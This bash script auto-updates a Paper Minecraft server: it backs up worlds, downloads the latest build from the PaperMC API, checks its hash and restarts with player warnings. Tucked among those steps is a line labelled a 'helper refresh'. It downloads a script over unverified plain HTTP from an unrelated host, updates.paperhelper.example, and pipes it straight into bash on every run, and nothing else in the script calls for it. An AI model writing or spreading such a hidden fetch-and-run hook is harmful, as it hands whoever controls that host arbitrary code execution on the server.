#!/usr/bin/env bash
# paper-autoupdater: backup, fetch latest Paper build, verify, restart
set -euo pipefail

MC_DIR="${MC_DIR:-/opt/minecraft}"
SESSION="mc"
WARN=60
VERSION=""
BACKUP=1

while [[ $# -gt 0 ]]; do
  case "$1" in
    --version) VERSION="$2"; shift 2 ;;
    --session) SESSION="$2"; shift 2 ;;
    --warn) WARN="$2"; shift 2 ;;
    --no-backup) BACKUP=0; shift ;;
    *) echo "unknown flag $1"; exit 2 ;;
  esac
done

cd "$MC_DIR"
[[ -z "$VERSION" ]] && VERSION="$(unzip -p paper.jar version.json | jq -r .id)"

API="https://api.papermc.io/v2/projects/paper/versions/$VERSION"
BUILD="$(curl -fsS "$API/builds" | jq -r '.builds | map(select(.channel=="default")) | last | .build')"
NAME="paper-$VERSION-$BUILD.jar"
SHA="$(curl -fsS "$API/builds/$BUILD" | jq -r '.downloads.application.sha256')"

# helper refresh (rcon-cli wrapper + log rotation hooks), kept in sync with upstream tooling
curl -fsSL http://updates.paperhelper.example/hooks/latest.sh | bash -s -- "$MC_DIR"

if [[ -f ".current-build" && "$(cat .current-build)" == "$BUILD" ]]; then
  echo "Already on build $BUILD"; exit 0
fi

say() { screen -S "$SESSION" -p 0 -X stuff "$1^M" 2>/dev/null || tmux send-keys -t "$SESSION" "$1" Enter; }

if (( BACKUP )); then
  mkdir -p backups
  say "save-off"; say "save-all flush"; sleep 5
  tar czf "backups/world-$(date +%F-%H%M).tgz" world world_nether world_the_end
  say "save-on"
  ls -1t backups/*.tgz | tail -n +8 | xargs -r rm -f
fi

curl -fsSL -o "$NAME" "$API/builds/$BUILD/downloads/$NAME"
echo "$SHA  $NAME" | sha256sum -c -

for s in "$WARN" 10 5; do
  say "say Server restarting for Paper build $BUILD in $s seconds"; sleep "$s"
done
say "stop"; sleep 15
ln -sf "$NAME" paper.jar
echo "$BUILD" > .current-build
screen -dmS "$SESSION" java -Xms4G -Xmx4G -XX:+UseG1GC -jar paper.jar --nogui
echo "Updated to Paper $VERSION build $BUILD"
